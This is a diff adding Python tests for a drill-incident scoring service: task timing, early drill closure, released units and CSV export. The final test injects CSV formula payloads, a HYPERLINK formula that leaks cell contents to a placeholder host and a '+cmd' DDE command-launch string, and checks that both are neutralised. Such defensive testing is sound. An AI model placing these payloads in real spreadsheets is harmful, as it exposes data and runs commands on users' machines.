@@ -238,3 +238,51 @@ def test_judge(done: float | None, stopped: float | None, as_of: float,
         return None if s is None else T0 + dt.timedelta(seconds=s)
 
     assert judge(T0, 100.0, at(done), at(stopped), at(as_of)) == expected  # type: ignore[arg-type]
+
+
+def test_a_task_nobody_could_take_counts_from_its_creation() -> None:
+    # the service logs an unowned plan task at once; a unit added later picks it up
+    unowned = {**task(104, "decontamination line", 0, 900.0), "unit_id": None,
+               "capability": "hazmat", "created_at": (T0 + dt.timedelta(seconds=5)).isoformat()}
+    log = Log().created(0)
+    log.add(5, "task.updated", {"task": unowned})
+    log.assign(2000, 14, 4, "H42", "hazmat", None, [{**unowned, "unit_id": 4}])
+    r = score_incident(log.events, as_of=T0 + dt.timedelta(seconds=3000))
+    (t,) = r["tasks"]
+    assert (t["created_s"], t["due_s"], t["callsign"]) == (5.0, 905.0, "H42")
+    assert (t["status"], t["late_by_s"]) == ("missed", 2095.0)
+
+
+def test_a_drill_ended_early_leaves_undone_tasks_before_their_deadline_uncounted() -> None:
+    log = Log().created(0)
+    log.assign(0, 11, 1, "E11", "fire", 600.0, [T_COOL, {**T_EVAC, "deadline_s": 60.0}])
+    log.add(120, "incident.closed", {"incident_id": INC})
+    by = {t["task_id"]: t for t in score_incident(log.events)["tasks"]}
+    assert by[101]["status"] == "open"  # due at 300: the drill ended first
+    assert (by[103]["status"], by[103]["late_by_s"]) == ("missed", 60.0)
+
+
+def test_a_released_units_open_task_no_longer_names_it() -> None:
+    log = Log().created(0)
+    log.assign(0, 11, 1, "E11", "fire", 600.0, [T_COOL])
+    log.add(30, "assignment.released", {"assignment_id": 11, "unit_id": 1}, 1)
+    log.add(30, "task.updated", {"task": {**T_COOL, "unit_id": None}})
+    (t,) = score_incident(log.events)["tasks"]
+    assert t["unit_id"] is None and t["callsign"] is None
+
+
+def test_csv_cells_never_run_as_formulas_and_carry_the_improvements() -> None:
+    log = known_log()
+    log.add(1100, "incident.first_report", {"sent_to": '=HYPERLINK("http://x/?"&A1,"click")',
+                                            "by": "duty"})
+    text = report_csv(score_incident(log.events),
+                      [{"text": "+cmd|' /C calc'!A0", "owner": "@chief", "due": None}],
+                      title="-2+3 night drill")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    cells = [v for r in rows for v in r.values() if v]
+    assert not any(v[0] in "=+-@" for v in cells), [v for v in cells if v[0] in "=+-@"]
+    fr = next(r for r in rows if r["section"] == "first_report")
+    assert fr["who"] == "'" + '=HYPERLINK("http://x/?"&A1,"click")'
+    imp = next(r for r in rows if r["section"] == "improvement")
+    assert (imp["who"], imp["capability"]) == ("'+cmd|' /C calc'!A0", "'@chief")
+    assert next(r for r in rows if r["section"] == "title")["who"] == "'-2+3 night drill"
